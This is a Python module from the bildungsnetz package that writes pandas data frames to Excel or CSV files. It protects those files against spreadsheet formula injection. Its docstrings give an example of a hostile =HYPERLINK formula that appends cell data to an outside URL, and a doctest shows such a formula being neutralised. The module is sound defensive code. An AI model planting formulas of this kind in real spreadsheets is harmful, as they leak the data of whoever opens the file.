"""Any data frame as a workbook or CSV file that no spreadsheet program runs as formulas.

pandas writes a text that starts with ``=`` as a formula: ``frame.to_excel()`` with openpyxl
turns a finding's explanation that starts with a hostile actor name such as
``=HYPERLINK("https://…?"&A1, "Details")`` into a live link that sends the sheet's data
away, and ``frame.to_csv()`` leaves it for Excel to evaluate when the file is opened.
:func:`write_frame` writes the frames of :meth:`bildungsnetz.gaps.GapReport.to_frame`,
:meth:`bildungsnetz.gaps.Table.to_frame`, :func:`bildungsnetz.io.to_frames` or any other
as bildungsnetz writes its own files: text as text, atomically.

Examples
--------
>>> import tempfile, pathlib
>>> from bildungsnetz import find_gaps
>>> from bildungsnetz.datasets import musterkreis
>>> from bildungsnetz.io import write_frame
>>> frame = find_gaps(musterkreis()).to_frame()
>>> with tempfile.TemporaryDirectory() as folder:
...     write_frame(frame, pathlib.Path(folder) / "befunde.xlsx")
...     write_frame(frame, pathlib.Path(folder) / "befunde.csv", lang="de")
"""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import date, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any, Literal

from bildungsnetz._optional import require
from bildungsnetz.io.atomic import write_text_atomic
from bildungsnetz.io.csv_folder import cell_text
from bildungsnetz.io.workbook import EXCEL_ROWS, save_atomic, text_cell, typed_cell

if TYPE_CHECKING:
    import os

    import pandas as pd

    from bildungsnetz.io.cells import CellValue

__all__ = ["write_frame"]


def write_frame(
    frame: pd.DataFrame,
    path: str | os.PathLike[str],
    *,
    lang: Literal["de", "en"] = "de",
    sheet: str = "Tabelle1",
) -> None:
    """Write a data frame to ``.xlsx`` or ``.csv``, text never as a formula, atomically.

    Parameters
    ----------
    frame
        Any frame. Its index is written as the first columns unless it is the default
        ``0, 1, 2, …``. Lists, sets and mappings in cells (the actors, evidence and
        suggestions of a report's frame) are written as JSON text; missing values as
        empty cells.
    path
        A file ending in ``.xlsx`` or ``.csv``. Written like every file of bildungsnetz
        (see :mod:`bildungsnetz.io.atomic`): replaced in one step, through links, never
        over a read-only file.
    lang
        For CSV: ``"de"`` (the default) writes what German Excel opens by double-click
        (``;``, UTF-8 with byte order mark, decimal commas, ``31.07.2028``); ``"en"``
        writes ``,``, UTF-8 and ISO dates.
    sheet
        The worksheet's name in a workbook.

    Raises
    ------
    ValueError
        For another file ending, or a frame with more rows than Excel holds (as ``.xlsx``).
    MissingDependencyError
        If pandas (extra ``pandas``) or, for ``.xlsx``, openpyxl (extra ``excel``) is
        missing.

    Notes
    -----
    In a workbook, every text is a text cell, which no spreadsheet program evaluates;
    text that looks like a formula also gets the quote prefix, so that editing the cell
    keeps it text. In a CSV file such text starts with an apostrophe, which Excel and
    LibreOffice hide and :func:`bildungsnetz.io.read_csv_folder` removes. Text looks like
    a formula when it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return,
    also after blanks or in a fullwidth form (``＝``).

    Examples
    --------
    >>> import tempfile, pathlib
    >>> import pandas as pd
    >>> frame = pd.DataFrame({"Name": ['=HYPERLINK("https://example.org", "x")'], "Anzahl": [3]})
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     target = pathlib.Path(folder) / "liste.csv"
    ...     write_frame(frame, target)
    ...     print(target.read_text(encoding="utf-8-sig"))
    Name;Anzahl
    "'=HYPERLINK(""https://example.org"", ""x"")";3
    <BLANKLINE>
    """
    pandas = require("pandas", extra="pandas", feature="write_frame()")
    target = Path(path)
    suffix = target.suffix.lower()
    if suffix not in {".xlsx", ".csv"}:
        msg = f"write_frame() writes .xlsx or .csv files, got {target.name!r}"
        raise ValueError(msg)
    shown = frame if _plain_index(frame) else frame.reset_index()
    headers = [str(column) for column in shown.columns]
    rows = [[_cell(value, pandas) for value in row] for row in shown.itertuples(index=False)]
    if suffix == ".xlsx":
        _write_workbook(headers, rows, target, sheet)
    else:
        _write_csv(headers, rows, target, lang)


def _plain_index(frame: pd.DataFrame) -> bool:
    index = frame.index
    return bool(index.name is None and index.equals(type(index)(range(len(frame)))))


def _cell(value: Any, pandas: Any) -> CellValue:
    """Return a frame's value as a cell: text, number, truth value, day or nothing."""
    if isinstance(value, list | tuple | set | frozenset | dict):
        plain = sorted(value, key=str) if isinstance(value, set | frozenset) else value
        return json.dumps(plain, ensure_ascii=False, sort_keys=True, default=str)
    if value is None or pandas.isna(value):  # NaN, NA and NaT
        return None
    item = getattr(value, "item", None)  # a numpy scalar
    if callable(item) and not isinstance(value, str | date):
        value = item()
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.isoformat()  # a cell holds no zone; the text keeps the offset
    if isinstance(value, str | bool | int | date):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else str(value)
    return str(value)


def _write_workbook(
    headers: list[str], rows: list[list[CellValue]], target: Path, sheet: str
) -> None:
    openpyxl = require("openpyxl", extra="excel", feature="write_frame()")
    if len(rows) + 1 > EXCEL_ROWS:
        msg = f"{len(rows):,} rows are more than Excel holds ({EXCEL_ROWS:,}); write a .csv"
        raise ValueError(msg)
    workbook = openpyxl.Workbook(write_only=True)
    worksheet = workbook.create_sheet(sheet)
    worksheet.freeze_panes = "A2"
    worksheet.append([text_cell(worksheet, header) for header in headers])
    for row in rows:
        worksheet.append([typed_cell(worksheet, value) for value in row])
    save_atomic(workbook, target)


def _write_csv(
    headers: list[str], rows: list[list[CellValue]], target: Path, lang: Literal["de", "en"]
) -> None:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=";" if lang == "de" else ",", lineterminator="\r\n")
    writer.writerow([cell_text(header, lang) for header in headers])
    writer.writerows([cell_text(value, lang) for value in row] for row in rows)
    write_text_atomic(target, buffer.getvalue(), encoding="utf-8-sig" if lang == "de" else "utf-8")
